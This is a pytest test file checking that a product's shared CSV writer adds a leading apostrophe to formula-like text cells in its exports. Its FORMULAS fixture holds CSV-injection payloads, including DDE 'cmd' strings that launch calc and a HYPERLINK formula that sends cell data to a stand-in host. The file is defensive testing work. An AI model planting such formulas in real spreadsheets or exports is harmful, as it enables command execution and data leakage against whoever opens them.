"""Every CSV the product writes is formula-safe: the shared writer and its users.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading apostrophe; numbers (a negative longitude) stay numbers. The users: the
per-cell CSV (``reports.geo``), ``clean`` (CSV and CSV.gz) and the rows behind a
finding (the app's downloads: tests/app/test_downloads_safe.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import io

import polars as pl
import pytest

from explorer import safe_csv
from explorer.analysis import analyze_read
from explorer.cleaning import affected_rows, clean
from explorer.reading.pings import read_pings
from explorer.reports.geo import cells_csv

#: Formula-like values, one per dangerous leading character.
FORMULAS = {
    "=": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}
BENIGN = ["android", "a=b", "x-1", "", None]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("prefix", list(FORMULAS))
def test_a_text_cell_starting_like_a_formula_gets_an_apostrophe(prefix: str) -> None:
    value = FORMULAS[prefix]
    frame = pl.DataFrame({"text": [value, *BENIGN], "lon": [-73.9, 1, 2, 3, 4, 5]})
    header, first, *rest = rows_of(safe_csv.csv_bytes(frame).decode("utf-8"))
    assert header == ["text", "lon"]
    assert first == ["'" + value, "-73.9"]
    assert [r[0] for r in rest] == ["android", "a=b", "x-1", "", ""]


def test_numbers_times_and_booleans_are_written_as_they_are() -> None:
    frame = pl.DataFrame(
        {
            "lat": [-33.86],
            "lon": [-73.9],
            "pings": [-5],
            "ok": [False],
            "timestamp": [dt.datetime(2024, 6, 3, 12, tzinfo=dt.UTC)],
        }
    )
    plain = frame.write_csv()
    assert safe_csv.csv_bytes(frame).decode() == plain
    assert safe_csv.formula_safe(frame).equals(frame)


def test_categorical_cells_and_column_names_are_made_safe_too() -> None:
    frame = pl.DataFrame({"=name": ["x"], "kind": ["@cmd"]}).with_columns(
        pl.col("kind").cast(pl.Categorical)
    )
    assert rows_of(safe_csv.csv_bytes(frame).decode()) == [["'=name", "kind"], ["x", "'@cmd"]]


def test_the_per_cell_csv_uses_the_shared_writer() -> None:
    metrics = pl.DataFrame(
        {"hex": ["-bad", "8f2a1072b59a4e3"], "lat": [40.7, 40.8], "lon": [-73.9, -74.0]}
    )
    assert rows_of(cells_csv(metrics).decode())[1:] == [
        ["'-bad", "40.7", "-73.9"],
        ["8f2a1072b59a4e3", "40.8", "-74.0"],
    ]


@pytest.fixture(scope="module")
def hostile_read():
    """Pings whose device ids and types are formulas (one device per formula)."""
    start = dt.datetime(2024, 6, 3, tzinfo=dt.UTC)
    rows = [
        (value, start + dt.timedelta(minutes=i), 40.7 + i / 1000, -73.9 - i / 1000, value)
        for i, value in enumerate([*FORMULAS.values(), "plain"] * 3)
    ]
    frame = pl.DataFrame(
        rows, schema=["device_id", "timestamp", "lat", "lon", "os"], orient="row"
    ).with_columns(pl.col("timestamp").dt.epoch("ms"))
    return read_pings(frame.write_csv().encode(), name="hostile.csv")


def assert_safe_rows(text: str, expected_rows: int) -> None:
    """Every device id and type is safe, and coordinates are plain numbers."""
    header, *rows = rows_of(text)
    assert len(rows) == expected_rows
    columns = {name: i for i, name in enumerate(header)}
    for row in rows:
        for name in ("device_id", "device_type"):
            assert not row[columns[name]].startswith(safe_csv.FORMULA_PREFIXES), row
        assert float(row[columns["lon"]]) < 0 and row[columns["lon"]].startswith("-")


def test_the_reader_keeps_the_formulas_this_test_relies_on(hostile_read) -> None:
    assert set(FORMULAS.values()) <= set(hostile_read.pings["device_id"].to_list())


@pytest.mark.parametrize("suffix", [".csv", ".csv.gz"])
def test_clean_writes_a_formula_safe_copy(hostile_read, tmp_path, suffix: str) -> None:
    out = tmp_path / f"cleaned{suffix}"
    result = clean(hostile_read, ["duplicate_pings"], out)
    raw = out.read_bytes()
    text = (gzip.decompress(raw) if suffix.endswith(".gz") else raw).decode("utf-8")
    assert_safe_rows(text, result.kept)
    assert "'=HYPERLINK(" in text


def test_the_rows_behind_a_finding_are_formula_safe(hostile_read) -> None:
    analysis = analyze_read(hostile_read, salt="s")
    finding = {"kind": "hour_profile", "cells": [], "evidence": {}}  # every row
    rows = affected_rows(hostile_read, finding, analysis)
    assert_safe_rows(safe_csv.csv_bytes(rows).decode(), hostile_read.pings.height)
